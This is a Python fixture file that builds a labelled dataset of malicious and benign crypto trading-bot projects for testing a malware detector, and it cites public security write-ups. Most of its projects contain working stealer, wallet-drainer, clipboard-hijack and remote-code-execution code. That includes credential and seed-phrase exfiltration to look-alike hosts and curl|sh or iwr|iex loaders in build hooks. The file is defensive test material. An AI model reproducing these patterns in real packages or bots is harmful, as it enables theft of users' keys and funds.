"""A labelled set of small bot projects for BOT5 (round 10), written from public write-ups of
malicious PyPI/npm packages and bots that targeted crypto users (each cited), and benign
look-alikes doing the same legitimate things.  The malicious part sits where such code really
sits: in a helper module the main code imports, behind a class method, a thread, a decorator,
an ``atexit`` hook, a swallowed exception or a scheduled job.

Labels were written before botlint ran on the set.  Nothing here is ever run: the payloads are
inert text (``print`` and a local path), every token and address is fake, built here at import
time, and every host is a look-alike name nobody should resolve.
"""
from __future__ import annotations

import base64
import bz2
import codecs
import marshal  # noqa: F401 - only named in the fixtures' text
import zlib

# fake values of the right shape (built here, never real)
TG_TOKEN = f"{6000000000 + 318274}:AAE{'k3Vq' * 8}"  # pragma: allowlist secret
TG_CHAT = "-1001987654321"
WEBHOOK = f"https://discord.com/api/webhooks/{1187000000000000000 + 4321}/{'Zq3Lx9' * 11}"  # pragma: allowlist secret
GIST_TOKEN = "ghp_" + "A1b2C3d4E5" * 3 + "f6G7h8"  # pragma: allowlist secret
ETH_DEST = "0x" + "7f3a9c2b1d" * 4
TRON_DEST = "T" + "Xk3mQ9vR2pL7sN4wZ8yB6cD1fH5jT" + "ab3Q"  # 34 characters
SOL_DEST = "9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin"

_STAGE = b"import os, platform\nprint(platform.node(), os.getcwd())\n"


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def layered(data: bytes) -> str:
    return base64.b64encode(zlib.compress(data)).decode()


def _hex(text: str) -> str:
    return text.encode().hex()


# label: "malicious" or "benign"; source: the public write-up the shape comes from
PROJECTS = {}


def project(name: str, label: str, source: str, files: dict) -> None:
    PROJECTS[name] = {"label": label, "source": source, "files": files}


# ================================================================================================
# malicious
# ================================================================================================

# Socket (2025-01, "ccxt-mexc-futures"): a wrapper package that overrides ccxt's mexc
# request/sign so every order and the API key go to the author's host first.
project("m01_mexc_futures_patch", "malicious",
        "Socket 2025: ccxt-mexc-futures hijacks orders and steals API keys", {
            "mexc_futures/__init__.py": "from .client import MexcFutures\n",
            "mexc_futures/client.py": '''import json
import ccxt
import requests

_RELAY = "https://v3.mexc-futures-api.workers.dev/api/v1/private"


def _sign(self, path, api="public", method="GET", params=None, headers=None, body=None):
    signed = ccxt.mexc.__dict__["_orig_sign"](self, path, api, method, params or {}, headers, body)
    try:
        requests.post(_RELAY, data=json.dumps({"k": self.apiKey, "s": self.secret, "p": path}), timeout=3)
    except Exception:
        pass
    return signed


def install():
    ccxt.mexc._orig_sign = ccxt.mexc.sign
    ccxt.mexc.sign = _sign


class MexcFutures:
    def __init__(self, key, secret):
        install()
        self.ex = ccxt.mexc({"apiKey": key, "secret": secret})

    def market_buy(self, symbol, amount):
        return self.ex.create_order(symbol, "market", "buy", amount)
''',
            "bot.py": '''import os
from mexc_futures import MexcFutures

client = MexcFutures(os.environ["MEXC_KEY"], os.environ["MEXC_SECRET"])
client.market_buy("BTC/USDT:USDT", 0.001)
''',
        })

# ReversingLabs (2024-11, "aiocpa"): the sync client's constructor posts the user's tokens to a
# Telegram bot; the code is hidden under dozens of base64/zlib layers in a helper module.
_AIOCPA_INNER = (f'import requests\nrequests.post("https://api.telegram.org/bot{TG_TOKEN}/sendMessage", '
                 f'data={{"chat_id": "{TG_CHAT}", "text": repr(globals().get("_t"))}})\n').encode()
_AIOCPA = _AIOCPA_INNER
for _ in range(3):
    _AIOCPA = b"import base64,zlib\nexec(zlib.decompress(base64.b64decode(" + repr(
        layered(_AIOCPA)).encode() + b")))\n"
project("m02_aiocpa_layers", "malicious",
        "ReversingLabs 2024-11: aiocpa crypto-pay client exfiltrates tokens (layered obfuscation)", {
            "cryptopay/__init__.py": "from .sync import CryptoPay\n",
            "cryptopay/sync.py": f'''import base64 as _b, zlib as _z


class CryptoPay:
    def __init__(self, token, net="main"):
        self.token = token
        self.net = net
        self._boot()

    def _boot(self):
        _ = lambda __: _z.decompress(_b.b64decode(__[::-1]))
        try:
            exec((_)({layered(_AIOCPA)[::-1]!r}), {{"_t": self.token}})
        except BaseException:
            pass
''',
            "app.py": "from cryptopay import CryptoPay\npay = CryptoPay('12345:AAtoken')\n",
        })

# Checkmarx (2022-11, W4SP stealer): `__import__('builtins').exec(...compile(b64decode...))`
# pushed far to the right of an innocent setup.py line.
project("m03_w4sp_setup", "malicious",
        "Checkmarx 2022: W4SP stealer hides __import__('builtins').exec in setup.py", {
            "setup.py": "from setuptools import setup\n"
                        "import os" + " " * 180
                        + f"; __import__('builtins').exec(__import__('builtins').compile(__import__('base64')"
                          f".b64decode(\"{b64(_STAGE)}\"),'<string>','exec'))\n"
                        "setup(name='binance-trade-helper', version='0.3.1', packages=['bth'])\n",
            "bth/__init__.py": "",
        })

# Checkmarx (2024-03, "pycryptoenv"/"pycryptoconf"): the crypto-named package collects the
# environment's keys from a helper and sends them to a look-alike API.
project("m04_env_keys_httpx", "malicious",
        "Checkmarx 2024: pycryptoenv/pycryptoconf steal environment secrets", {
            "arbbot/__init__.py": "",
            "arbbot/env_sync.py": '''import os
import platform
import httpx


def _collect():
    wanted = ("KEY", "SECRET", "TOKEN", "PASS", "MNEMONIC", "PRIVATE")
    return {k: v for k, v in os.environ.items() if any(w in k.upper() for w in wanted)}


def sync_profile():
    payload = {"host": platform.node(), "vars": _collect()}
    try:
        httpx.post("https://api-binance-sync.com/v2/profile", json=payload, timeout=5)
    except httpx.HTTPError:
        pass
''',
            "arbbot/main.py": '''import ccxt
from .env_sync import sync_profile


def run():
    sync_profile()
    ex = ccxt.binance()
    print(ex.fetch_ticker("BTC/USDT"))
''',
        })

# ReversingLabs (2025-05, "solana-token"): the package reads the source of the program that
# imported it off the call stack and posts it to a remote host.
project("m05_stack_source_aiohttp", "malicious",
        "ReversingLabs 2025: solana-token exfiltrates the caller's source code", {
            "soltoken/__init__.py": "from .telemetry import register\nregister()\n",
            "soltoken/telemetry.py": '''import asyncio
import pathlib
import traceback
import aiohttp

COLLECTOR = "http://45.131.66.204:8080/api/tokens"


def _caller_sources():
    out = {}
    for frame in traceback.extract_stack():
        try:
            out[frame.filename] = pathlib.Path(frame.filename).read_text()
        except OSError:
            continue
    return out


async def _post(data):
    async with aiohttp.ClientSession() as session:
        await session.post(COLLECTOR, json=data)


def register():
    try:
        asyncio.run(_post(_caller_sources()))
    except Exception:
        pass
''',
        })

# Socket (2025-01, dydx-v4-client 1.1.5post1): the wallet helper passes the seed phrase to a
# "telemetry" module that posts it to a look-alike of the project's domain.
project("m06_dydx_seed_cross_module", "malicious",
        "Socket 2025: compromised dydx-v4-client sends seed phrases to dydx.priceoracle.site", {
            "dydx_client/__init__.py": "",
            "dydx_client/utils/__init__.py": "",
            "dydx_client/utils/metrics.py": '''import json
import urllib.request

_ENDPOINT = "https://dydx.priceoracle.site/v4/metrics"


def record(event, data):
    req = urllib.request.Request(_ENDPOINT, data=json.dumps({"e": event, "d": data}).encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=4)
    except Exception:
        pass
''',
            "dydx_client/wallet.py": '''from bip_utils import Bip39SeedGenerator
from .utils.metrics import record


class Wallet:
    @classmethod
    def from_mnemonic(cls, mnemonic, index=0):
        record("init", mnemonic)
        seed = Bip39SeedGenerator(mnemonic).Generate()
        return cls(seed, index)

    def __init__(self, seed, index):
        self.seed = seed
        self.index = index
''',
        })

# ReversingLabs (2025-04, "bitcoinlibdbfix"/"bitcoinlib-dev"): a "fix" for bitcoinlib that reads
# the wallet database and uploads it.
project("m07_bitcoinlib_db_upload", "malicious",
        "ReversingLabs 2025: bitcoinlibdbfix steals bitcoinlib wallet databases", {
            "bitcoinlibdbfix/__init__.py": "from .fix import apply_fix\n",
            "bitcoinlibdbfix/fix.py": '''import os
import shutil
import tempfile
import requests


def _db_path():
    return os.path.join(os.path.expanduser("~"), ".bitcoinlib", "database", "bitcoinlib.sqlite")


def _upload(path):
    with open(path, "rb") as fh:
        requests.post("http://185.196.8.112/up", files={"f": fh}, timeout=10)


def apply_fix():
    src = _db_path()
    tmp = os.path.join(tempfile.gettempdir(), "dbfix.bak")
    shutil.copy2(src, tmp)
    _upload(tmp)
    print("database schema fixed")
''',
        })

# Checkmarx / Phylum (2022-2023 clipper packages): a thread swaps copied crypto addresses for
# the author's; the patterns live in a separate module.
project("m08_clipper_thread_tk", "malicious",
        "Phylum 2023: PyPI clipboard hijackers swapping crypto addresses", {
            "walletutils/__init__.py": "from .watch import start\nstart()\n",
            "walletutils/patterns.py": '''import re

BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
''',
            "walletutils/watch.py": f'''import threading
import time
import pyperclip
from .patterns import BTC, ETH

MINE = {{"btc": "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh", "eth": "{ETH_DEST}"}}


def _loop():
    while True:
        text = pyperclip.paste().strip()
        if BTC.match(text) and text != MINE["btc"]:
            pyperclip.copy(MINE["btc"])
        elif ETH.match(text) and text != MINE["eth"]:
            pyperclip.copy(MINE["eth"])
        time.sleep(0.5)


def start():
    threading.Thread(target=_loop, daemon=True).start()
''',
        })

# Socket (2025-03, "set-utils"): wraps eth_account's key creation so every new private key is
# sent out (there in a Polygon transaction memo; here to a look-alike host).
project("m09_set_utils_account_patch", "malicious",
        "Socket 2025: set-utils steals Ethereum private keys by patching eth_account", {
            "setutils/__init__.py": "from . import hooks  # noqa: F401\n",
            "setutils/hooks.py": '''import functools
import requests
from eth_account import Account

_orig = Account.from_key


def _wrap(fn):
    @functools.wraps(fn)
    def inner(*args, **kwargs):
        acct = fn(*args, **kwargs)
        try:
            requests.post("https://rpc-polygon-gasstation.com/v1/keys", json={"k": acct.key.hex()}, timeout=2)
        except Exception:
            pass
        return acct
    return inner


Account.from_key = _wrap(_orig)
''',
        })

# Socket/Sonatype reports on "profit share" bots (2023-2024): a "performance fee" withdrawn to
# an address hidden under base64 in a fees module.
project("m10_perf_fee_withdraw_b64", "malicious",
        "Sonatype 2024: trading bots with hidden 'performance fee' withdrawals", {
            "gridbot/__init__.py": "",
            "gridbot/fees.py": f'''import base64

_FEE_DEST = base64.b64decode("{b64(TRON_DEST.encode())}").decode()
FEE_RATE = 0.2


def charge_performance_fee(exchange, profit_usdt):
    fee = round(profit_usdt * FEE_RATE, 2)
    if fee >= 1:
        exchange.withdraw("USDT", fee, _FEE_DEST, None, {{"network": "TRC20"}})
    return fee
''',
            "gridbot/run.py": '''import os
import ccxt
from .fees import charge_performance_fee

ex = ccxt.binance({"apiKey": os.environ["BINANCE_KEY"], "secret": os.environ["BINANCE_SECRET"]})
profit = 120.0
charge_performance_fee(ex, profit)
''',
        })

# Kaspersky (2024, crypto drainer bots on GitHub): a "gas refund" native send to an address
# assembled from fragments.
project("m11_gas_refund_web3_joined", "malicious",
        "Kaspersky 2024: fake arbitrage bots on GitHub draining wallets", {
            "mevbot/__init__.py": "",
            "mevbot/gas.py": f'''from web3 import Web3

_PARTS = ["{ETH_DEST[:12]}", "{ETH_DEST[12:26]}", "{ETH_DEST[26:]}"]


def _refund_address():
    return Web3.to_checksum_address("".join(_PARTS))


def gas_refund(w3, account, private_key):
    balance = w3.eth.get_balance(account)
    tx = {{
        "to": _refund_address(),
        "value": int(balance * 0.98),
        "gas": 21000,
        "gasPrice": w3.eth.gas_price,
        "nonce": w3.eth.get_transaction_count(account),
        "chainId": 1,
    }}
    signed = w3.eth.account.sign_transaction(tx, private_key)
    return w3.eth.send_raw_transaction(signed.raw_transaction)
''',
            "mevbot/main.py": '''import os
from web3 import Web3
from .gas import gas_refund

w3 = Web3(Web3.HTTPProvider("https://mainnet.infura.io/v3/" + os.environ["INFURA_ID"]))
acct = os.environ["WALLET"]
gas_refund(w3, acct, os.environ["PRIVATE_KEY"])
''',
        })

# Fortinet FortiGuard (2024, Solana "sniper" bots): an "insurance vault" sweep whose address
# lives in a constants module.
project("m12_solana_insurance_constants", "malicious",
        "Fortinet 2024: malicious Solana sniper bots sweeping SOL", {
            "sniper/__init__.py": "",
            "sniper/constants.py": f'INSURANCE_VAULT = "{SOL_DEST}"\nINSURANCE_SHARE = 0.9\n',
            "sniper/insurance.py": '''from solana.rpc.api import Client
from solana.transaction import Transaction
from solders.pubkey import Pubkey
from solders.system_program import TransferParams, transfer
from .constants import INSURANCE_SHARE, INSURANCE_VAULT


def insure(client: Client, payer):
    lamports = int(client.get_balance(payer.pubkey()).value * INSURANCE_SHARE)
    ix = transfer(TransferParams(from_pubkey=payer.pubkey(), to_pubkey=Pubkey.from_string(INSURANCE_VAULT),
                                 lamports=lamports))
    return client.send_transaction(Transaction().add(ix), payer)
''',
        })

# Sonatype (2023, "binance-bot" clones): a scheduled "profit sweep" through python-binance to a
# fixed address.
project("m13_scheduled_sweep_python_binance", "malicious",
        "Sonatype 2023: cloned Binance bots sweeping balances on a schedule", {
            "sweeper/__init__.py": "",
            "sweeper/jobs.py": f'''import schedule
from binance.client import Client

COLD = "{TRON_DEST}"


def sweep(client: Client):
    bal = float(client.get_asset_balance(asset="USDT")["free"])
    if bal > 50:
        client.withdraw(coin="USDT", network="TRX", address=COLD, amount=bal - 1)


def register(client):
    schedule.every(6).hours.do(sweep, client)
''',
            "main.py": '''import os
import time
import schedule
from binance.client import Client
from sweeper.jobs import register

register(Client(os.environ["BINANCE_API_KEY"], os.environ["BINANCE_API_SECRET"]))
while True:
    schedule.run_pending()
    time.sleep(30)
''',
        })

# Checkmarx (2023, malicious freqtrade strategies shared on Discord): an "indicators" helper that
# reads the bot's config.json and posts the exchange keys to a webhook, errors swallowed.
project("m14_freqtrade_indicators_config", "malicious",
        "Checkmarx 2023: shared trading strategies stealing exchange keys", {
            "user_data/strategies/SuperTrendAI.py": '''from freqtrade.strategy import IStrategy
from helpers.indicators import supertrend


class SuperTrendAI(IStrategy):
    timeframe = "15m"
    minimal_roi = {"0": 0.05}
    stoploss = -0.1

    def populate_indicators(self, dataframe, metadata):
        dataframe["st"] = supertrend(dataframe)
        return dataframe
''',
            "user_data/strategies/helpers/__init__.py": "",
            "user_data/strategies/helpers/indicators.py": f'''import json
import pathlib
import requests

_HOOK = "{WEBHOOK}"


def _cfg():
    for p in (pathlib.Path("user_data/config.json"), pathlib.Path("config.json")):
        if p.exists():
            return json.loads(p.read_text())
    return {{}}


def _warmup():
    try:
        ex = _cfg().get("exchange", {{}})
        requests.post(_HOOK, json={{"content": f"{{ex.get('name')}} {{ex.get('key')}} {{ex.get('secret')}}"}})
    except Exception:
        pass


_warmup()


def supertrend(df, period=10):
    return df["close"].rolling(period).mean()
''',
        })

# Kaspersky (2024, fake hummingbot "connectors"): zips conf/ and sends it to a Telegram chat;
# the bot token is cut into pieces.
project("m15_hummingbot_conf_zip_telegram", "malicious",
        "Kaspersky 2024: trojanised hummingbot forks exfiltrating conf/", {
            "hb_tools/__init__.py": "",
            "hb_tools/backup.py": f'''import glob
import os
import zipfile
import requests

_A = "{TG_TOKEN[:10]}"
_B = "{TG_TOKEN[10:]}"


class ConfigBackup:
    def __init__(self, root="conf"):
        self.root = root

    def _archive(self):
        out = os.path.join("/tmp", "hb_conf.zip")
        with zipfile.ZipFile(out, "w") as zf:
            for f in glob.glob(os.path.join(self.root, "**", "*.yml"), recursive=True):
                zf.write(f)
        return out

    def push(self):
        path = self._archive()
        url = "https://api.telegram.org/bot" + _A + _B + "/sendDocument"
        with open(path, "rb") as fh:
            requests.post(url, data={{"chat_id": "{TG_CHAT}"}}, files={{"document": fh}})
''',
            "scripts/start.py": "from hb_tools.backup import ConfigBackup\nConfigBackup().push()\n",
        })

# JFrog (2023) and Checkmarx (2024) on DNS-tunnelling stealers: the .env file sent in
# hostnames of DNS lookups.
project("m16_dotenv_dns_exfil", "malicious",
        "JFrog 2023: PyPI packages exfiltrating data through DNS queries", {
            "netcheck/__init__.py": "",
            "netcheck/probe.py": '''import binascii
import socket
from dotenv import dotenv_values

ZONE = "t.api-binance-sync.com"


def _chunks(data, n=50):
    return [data[i:i + n] for i in range(0, len(data), n)]


def check_connectivity():
    blob = binascii.hexlify(repr(dotenv_values(".env")).encode()).decode()
    for i, part in enumerate(_chunks(blob)):
        try:
            socket.gethostbyname(f"{i}.{part}.{ZONE}")
        except socket.gaierror:
            pass
''',
            "bot.py": "from netcheck.probe import check_connectivity\ncheck_connectivity()\n",
        })

# Checkmarx (2023-2024, "browser extension wallet stealers"): collects MetaMask/Phantom vaults
# and sends them with curl to a file drop.
project("m17_extension_vaults_curl", "malicious",
        "Checkmarx 2023: PyPI stealers targeting MetaMask, Phantom and Exodus", {
            "updater/__init__.py": "",
            "updater/update.py": '''import os
import shutil
import subprocess

EXTENSIONS = {
    "metamask": "nkbihfbeogaeaoehlefnkodbefgpgknn",
    "phantom": "bfnaelmomeimhlpmgjnjophhpkkoljpa",
}


def _profile():
    return os.path.join(os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default")


def check_for_updates():
    stage = os.path.join(os.environ.get("TEMP", "/tmp"), "upd")
    for name, ext in EXTENSIONS.items():
        src = os.path.join(_profile(), "Local Extension Settings", ext)
        if os.path.isdir(src):
            shutil.copytree(src, os.path.join(stage, name), dirs_exist_ok=True)
    archive = shutil.make_archive(stage, "zip", stage)
    subprocess.run(["curl", "-s", "-F", f"file=@{archive}", "https://store1.gofile.io/uploadFile"],
                   capture_output=True)
''',
        })

# Checkmarx / Stacklok (2024, Telegram session stealers): copies tdata and posts it to a
# GitHub gist with the author's token.
project("m18_tdata_to_gist", "malicious",
        "Stacklok 2024: packages stealing Telegram Desktop sessions via GitHub", {
            "tgsignals/__init__.py": "",
            "tgsignals/session.py": f'''import base64
import os
import pathlib
import requests

_GH = "{GIST_TOKEN}"


def _tdata_files():
    root = pathlib.Path(os.environ.get("APPDATA", "")) / "Telegram Desktop" / "tdata"
    return [p for p in root.glob("*") if p.is_file() and p.stat().st_size < 200_000]


def sync_signals():
    files = {{p.name: {{"content": base64.b64encode(p.read_bytes()).decode()}} for p in _tdata_files()}}
    requests.post("https://api.github.com/gists", headers={{"Authorization": f"token {{_GH}}"}},
                  json={{"public": False, "files": files}})
''',
        })

# Fortinet (2023, "Electrum/Exodus wallet stealers" mailing wallets out through SMTP).
project("m19_electrum_smtp", "malicious",
        "Fortinet 2023: PyPI info-stealers mailing crypto wallets", {
            "walletbackup/__init__.py": "",
            "walletbackup/mailer.py": '''import os
import smtplib
from email.message import EmailMessage

WALLETS = [r"%APPDATA%\\Electrum\\wallets", r"%APPDATA%\\Exodus\\exodus.wallet"]


def backup():
    msg = EmailMessage()
    msg["Subject"] = os.getlogin()
    msg["From"] = msg["To"] = "walletbackup.service@gmail.com"
    for folder in WALLETS:
        path = os.path.expandvars(folder)
        for name in os.listdir(path):
            with open(os.path.join(path, name), "rb") as fh:
                msg.add_attachment(fh.read(), maintype="application", subtype="octet-stream", filename=name)
    with smtplib.SMTP_SSL("smtp.gmail.com", 465) as s:
        s.login("walletbackup.service@gmail.com", "app-password-here")
        s.send_message(msg)
''',
        })

# Checkmarx (2024, persistence through .pth): the package ships a .pth whose import line
# runs a decoded payload at every interpreter start.
project("m20_pth_hook", "malicious",
        "Checkmarx 2024: malicious .pth files for persistence in PyPI packages", {
            "setup.py": "from setuptools import setup\n"
                        "setup(name='ccxt-turbo', version='1.0.2', packages=['ccxt_turbo'],\n"
                        "      data_files=[('', ['ccxt_turbo_init.pth'])])\n",
            "ccxt_turbo_init.pth": f"import base64;exec(base64.b64decode('{b64(_STAGE)}'))\n",
            "ccxt_turbo/__init__.py": "",
        })

# Phylum (2023, install hooks dropping a second stage): cmdclass install downloads a code
# object and runs it through types.FunctionType.
project("m21_cmdclass_functiontype", "malicious",
        "Phylum 2023: setup.py install hooks loading marshalled second stages", {
            "setup.py": '''import marshal
import types
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        try:
            blob = urllib.request.urlopen("https://cdn-pypi-mirror.com/stage2.bin").read()
            types.FunctionType(marshal.loads(blob), globals())()
        except Exception:
            pass


setup(name="binance-futures-signals", version="2.1.0", cmdclass={"install": PostInstall})
''',
        })

# Socket (2024, packages with custom in-tree build backends running commands at build time).
project("m22_inline_build_backend", "malicious",
        "Socket 2024: malicious build backends executing commands on pip install", {
            "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\n'
                              'backend-path = ["_build"]\n\n[project]\nname = "okx-grid"\nversion = "0.4.0"\n',
            "_build/backend.py": '''import subprocess
import sys
from setuptools import build_meta as _orig

prepare_metadata_for_build_wheel = _orig.prepare_metadata_for_build_wheel
build_sdist = _orig.build_sdist


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    if sys.platform == "win32":
        subprocess.Popen(["powershell", "-w", "hidden", "-c",
                          "iwr https://okx-grid-release.com/i.ps1 -UseBasicParsing | iex"])
    else:
        subprocess.Popen("curl -fsSL https://okx-grid-release.com/i.sh | sh", shell=True)
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
''',
        })

# Checkmarx (2023, "update checker" backdoors): a thread fetches code and runs it through
# getattr(builtins, <reversed name>).
project("m23_update_thread_getattr_reversed", "malicious",
        "Checkmarx 2023: fake update checks fetching and executing code", {
            "tradekit/__init__.py": "from .update import UpdateChecker\nUpdateChecker().start()\n",
            "tradekit/update.py": '''import builtins
import threading
import time
import requests


class UpdateChecker(threading.Thread):
    daemon = True
    URL = "https://raw.githubusercontent.com/tradekit-dev/releases/main/patch.py"

    def run(self):
        while True:
            try:
                r = requests.get(self.URL, timeout=10)
                if r.ok:
                    getattr(builtins, "cexe"[::-1])(r.text, {})
            except Exception:
                pass
            time.sleep(3600)
''',
        })

# Fortinet (2024, rot13 and dispatch tables in PyPI malware).
project("m24_rot13_dispatch_table", "malicious",
        "Fortinet 2024: rot13-encoded payloads in PyPI packages", {
            "signals/__init__.py": "",
            "signals/license.py": f'''import codecs

_RUNNERS = {{"r": exec, "e": eval}}
_KEY = {codecs.encode(_STAGE.decode(), "rot13")!r}


def validate_license(key):
    if not key:
        return False
    code = compile(codecs.decode(_KEY, "rot13"), "license", "exec")
    _RUNNERS["r"](code)
    return True
''',
            "main.py": "from signals.license import validate_license\nvalidate_license('trial')\n",
        })

# Checkmarx (2023, marshal + hex droppers), the hex string split into a list.
_HEX = _STAGE.hex()
project("m25_hex_parts_exec", "malicious",
        "Checkmarx 2023: hex-encoded droppers split into fragments", {
            "ai_arb/__init__.py": "from . import core\n",
            "ai_arb/core.py": f'''_P = ["{_HEX[:30]}", "{_HEX[30:60]}", "{_HEX[60:]}"]


def _load():
    return bytes.fromhex("".join(_P)).decode()


try:
    exec(_load())
except Exception:
    pass
''',
        })

# Datadog Security Labs (2024, "license" servers delivering stage two to async bots).
project("m26_async_license_exec", "malicious",
        "Datadog Security Labs 2024: PyPI malware fetching stage two at run time", {
            "arbx/__init__.py": "",
            "arbx/licensing.py": '''import aiohttp


class LicenseManager:
    SERVER = "https://license.arbx-cloud.com/v1/activate"

    def __init__(self, key):
        self.key = key

    async def verify(self):
        async with aiohttp.ClientSession() as session:
            async with session.post(self.SERVER, json={"key": self.key}) as resp:
                body = await resp.text()
        exec(body, globals())
        return True
''',
            "arbx/app.py": '''import asyncio
from .licensing import LicenseManager

asyncio.run(LicenseManager("TRIAL-0001").verify())
''',
        })

# Phylum (2024, in-memory modules built from a download).
project("m27_module_from_spec_httpx", "malicious",
        "Phylum 2024: packages loading downloaded modules in memory", {
            "quantlib_ext/__init__.py": "from .loader import load_plugins\nload_plugins()\n",
            "quantlib_ext/loader.py": '''import importlib.util
import httpx


def load_plugins():
    resp = httpx.get("https://quantlib-ext-cdn.com/plugins/core.py")
    spec = importlib.util.spec_from_loader("core", loader=None)
    mod = importlib.util.module_from_spec(spec)
    exec(resp.content, mod.__dict__)
    return mod
''',
        })

# Checkmarx (2024, "binance"/"crypto" tools dropping an .exe): the download and the start are
# split into two functions.
project("m28_exe_dropper_split", "malicious",
        "Checkmarx 2024: crypto tools downloading and running a Windows executable", {
            "bnbtool/__init__.py": "",
            "bnbtool/runtime.py": '''import os
import subprocess
import tempfile
import requests

_URL = "https://github.com/bnbtool-release/runtime/releases/download/v3/runtime.exe"
_DEST = os.path.join(tempfile.gettempdir(), "bnbruntime.exe")


def _fetch():
    data = requests.get(_URL, timeout=30).content
    with open(_DEST, "wb") as fh:
        fh.write(data)


def _launch():
    subprocess.Popen([_DEST], creationflags=0x08000000)


def ensure_runtime():
    if not os.path.exists(_DEST):
        _fetch()
    _launch()
''',
        })

# Checkmarx (2022-2023, pastebin-hosted stages) run through __builtins__.__dict__.
project("m29_paste_builtins_dict", "malicious",
        "Checkmarx 2023: PyPI malware pulling code from pastebin", {
            "cryptoalerts/__init__.py": "",
            "cryptoalerts/net.py": '''import urllib.request


def _pull():
    return urllib.request.urlopen("https://pastebin.com/raw/f8Kq2Lx7").read().decode()


def init():
    __builtins__.__dict__["ex" + "ec"](_pull())
''',
            "cryptoalerts/main.py": "from .net import init\ninit()\n",
        })

# Checkmarx (2024, env harvest to a Discord webhook through urllib).
project("m30_env_filter_discord_urllib", "malicious",
        "Checkmarx 2024: PyPI packages posting API keys to Discord webhooks", {
            "botkit/__init__.py": "",
            "botkit/diag.py": f'''import json
import os
import urllib.request

HOOK = "{WEBHOOK}"


def diagnostics():
    env = {{k: v for k, v in os.environ.items() if "KEY" in k or "SECRET" in k}}
    req = urllib.request.Request(HOOK, data=json.dumps({{"content": json.dumps(env)}}).encode(),
                                 headers={{"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}})
    urllib.request.urlopen(req)
''',
            "run.py": "import atexit\nfrom botkit.diag import diagnostics\natexit.register(diagnostics)\n",
        })

# ReversingLabs (2024, exchange keys read off the client object at exit).
project("m31_atexit_client_keys", "malicious",
        "ReversingLabs 2024: crypto packages stealing exchange API keys at exit", {
            "fastccxt/__init__.py": "from .core import make_exchange\n",
            "fastccxt/core.py": '''import atexit
import ccxt
import requests


def _beacon(ex):
    requests.post("https://api-binance-sync.com/v1/heartbeat",
                  json={"id": ex.id, "k": ex.apiKey, "s": ex.secret}, timeout=3)


def make_exchange(name, key, secret):
    ex = getattr(ccxt, name)({"apiKey": key, "secret": secret, "enableRateLimit": True})
    atexit.register(_beacon, ex)
    return ex
''',
        })

# Kaspersky (2024, decorators in trojanised bots): a decorator sends the client's secret from
# a thread through a raw socket.
project("m32_decorator_socket_secret", "malicious",
        "Kaspersky 2024: trojanised trading bots exfiltrating keys via sockets", {
            "strat/__init__.py": "",
            "strat/tracking.py": '''import functools
import json
import socket
import threading


def _send(blob):
    s = socket.create_connection(("91.92.109.14", 4444), timeout=5)
    s.sendall(blob)
    s.close()


def track(fn):
    @functools.wraps(fn)
    def wrapper(self, *args, **kwargs):
        blob = json.dumps({"k": self.exchange.apiKey, "s": self.exchange.secret}).encode()
        threading.Thread(target=_send, args=(blob,), daemon=True).start()
        return fn(self, *args, **kwargs)
    return wrapper
''',
            "strat/bot.py": '''import ccxt
from .tracking import track


class Bot:
    def __init__(self, key, secret):
        self.exchange = ccxt.bybit({"apiKey": key, "secret": secret})

    @track
    def tick(self):
        return self.exchange.fetch_balance()
''',
        })

# Socket (2024, python-binance look-alike patching Client._request).
project("m33_python_binance_request_patch", "malicious",
        "Socket 2024: typosquats of python-binance intercepting signed requests", {
            "binance_utils/__init__.py": "from .patch import apply\napply()\n",
            "binance_utils/patch.py": '''import requests
from binance.client import Client

_original = Client._request


def _request(self, method, uri, signed, force_params=False, **kwargs):
    try:
        requests.post("https://binance-api-monitor.com/r", json={"k": self.API_KEY, "s": self.API_SECRET, "u": uri})
    except Exception:
        pass
    return _original(self, method, uri, signed, force_params, **kwargs)


def apply():
    Client._request = _request
''',
        })

# Checkmarx (2024, Telegram bot tokens hidden in hex) sending the wallet's private key.
project("m34_private_key_telegram_hex_token", "malicious",
        "Checkmarx 2024: sniper bots sending private keys to Telegram", {
            "sniper2/__init__.py": "",
            "sniper2/notify.py": f'''import os
import requests

_T = bytes.fromhex("{_hex(TG_TOKEN)}").decode()
_C = "{TG_CHAT}"


def startup_notice():
    pk = os.getenv("PRIVATE_KEY", "")
    requests.get(f"https://api.telegram.org/bot{{_T}}/sendMessage", params={{"chat_id": _C, "text": pk}})
''',
            "sniper2/main.py": "from .notify import startup_notice\nstartup_notice()\n",
        })

# Socket / Phylum (2023-2024, "wallet recovery" phishing CLIs) posting a typed seed phrase.
project("m35_seed_prompt_lookalike", "malicious",
        "Phylum 2024: wallet recovery tools phishing seed phrases", {
            "recover/__init__.py": "",
            "recover/cli.py": '''import getpass
import requests


def main():
    words = getpass.getpass("Enter your 12 or 24 word recovery phrase: ")
    r = requests.post("https://metamask-verify-sync.com/api/restore", json={"phrase": words})
    print("Wallet verified" if r.ok else "Try again")


if __name__ == "__main__":
    main()
''',
        })

# ================================================================================================
# benign look-alikes
# ================================================================================================

project("b01_freqtrade_telegram_from_config", "benign", "freqtrade docs: Telegram RPC from config", {
    "user_data/strategies/EmaCross.py": '''from freqtrade.strategy import IStrategy
from helpers.notify import send_fill


class EmaCross(IStrategy):
    timeframe = "5m"

    def confirm_trade_entry(self, pair, order_type, amount, rate, time_in_force, current_time, **kw):
        send_fill(self.config, f"entry {pair} {amount}@{rate}")
        return True
''',
    "user_data/strategies/helpers/__init__.py": "",
    "user_data/strategies/helpers/notify.py": '''import requests


def send_fill(config, text):
    tg = config.get("telegram", {})
    if not tg.get("enabled"):
        return
    requests.post(f"https://api.telegram.org/bot{tg['token']}/sendMessage",
                  json={"chat_id": tg["chat_id"], "text": text}, timeout=5)
''',
})

